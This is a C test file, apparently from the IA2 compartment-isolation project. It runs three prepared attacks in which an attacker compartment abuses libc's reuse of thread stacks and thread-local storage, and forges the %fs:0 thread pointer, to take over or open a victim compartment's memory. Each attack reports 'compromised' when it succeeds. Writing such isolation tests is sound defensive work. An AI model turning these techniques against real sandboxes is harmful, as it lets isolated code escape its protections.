/* prepared ATTACK: the attacker, compartment 1, gets hold of memory before the runtime gives it to the victim, or has the runtime take
 * other memory for it. Says "compromised" if that works. */
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "ia2.h"
#include "state/rights.h"
#include "state/state.h"
#include "prepared.h"

#define VICTIM 2
#define LARGE (1ul << 20)

static char own_stack[1 << 16] IA2_SHARED_DATA __attribute__((aligned(64)));

static void run(size_t stack, void *(*body)(void *), void *arg)
{
    pthread_attr_t attr;
    pthread_t thread;
    if (pthread_attr_init(&attr) || pthread_attr_setstacksize(&attr, stack) || pthread_create(&thread, &attr, body, arg) ||
        pthread_join(thread, NULL))
        abort();
}

static void *tells_stack(void *top)
{
    *(uint64_t *)top = ia2_this_thread()->top[1];
    return NULL;
}

static void *calls_victim(void *unused)
{
    uintptr_t at = victim_stack();
    if (at >= (uintptr_t)own_stack && at < (uintptr_t)own_stack + sizeof(own_stack))
        puts("compromised: the victim's stack is where the attacker wants it");
    return unused;
}

/* libc keeps an ended thread's stack for the next one. If that one's stacks are smaller, what was the attacker's becomes the victim's, the word
 * included that says where the victim waits. */
static void stack(void)
{
    uint64_t top;
    run(LARGE, tells_stack, &top);
    for (uint64_t at = top - LARGE; at < top; at += sizeof(at))
        *(volatile uint64_t *)at = (uint64_t)own_stack + sizeof(own_stack) - 1024;
    run(LARGE / 2, calls_victim, NULL);
}

static void *takes_thread_pointer(void *page)
{
    uint64_t forged = (uint64_t)page - (uint64_t)ia2_state.module[VICTIM].tls_offset;
    __asm__ volatile("mov %0, %%fs:0" : : "r"(forged) : "memory");
    return NULL;
}

/* The word at %fs:0 says where a thread's storage is, and is libc's, so everybody's. At its end the thread's storage is emptied and opened.
 * With keys the last look must not succeed. */
static void thread_pointer(void)
{
    const volatile char *page = victim_page();
    run(LARGE, takes_thread_pointer, (void *)page);
    puts(victim_page_is_intact() ? "intact" : "compromised: the victim's memory is gone");
    if (*page == 0x5a && ia2_state.pkeys)
        puts("compromised: the victim's memory is open");
}

static int *volatile counter;
static volatile int ready;

static void *tells_counter(void *unused)
{
    counter = victim_counter();
    return unused;
}

/* Until the next thread has it the storage of an ended one is everybody's: waits for libc to set its initial values, and adds its own. */
static void *waits_for_storage(void *unused)
{
    ready = 1;
    while (*(volatile int *)counter == 1)
        ;
    *(volatile int *)counter = 1000;
    return unused;
}

static void *counts(void *unused)
{
    if (victim_counts() != 41)
        puts("compromised: the victim's thread-local variable has the attacker's value");
    return unused;
}

static void storage(void)
{
    pthread_t helper;
    run(LARGE, tells_counter, NULL);
    *counter = 1;
    if (pthread_create(&helper, NULL, waits_for_storage, NULL))
        abort();
    while (!ready)
        ;
    run(LARGE, counts, NULL);
    pthread_join(helper, NULL);
}

int main(int argc, char **argv)
{
    const char *name = argc > 1 ? argv[1] : "";
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (!strcmp(name, "stack"))
        stack();
    else if (!strcmp(name, "thread-pointer"))
        thread_pointer();
    else if (!strcmp(name, "storage"))
        storage();
    else
        return 2;
    puts("done");
    return 0;
}
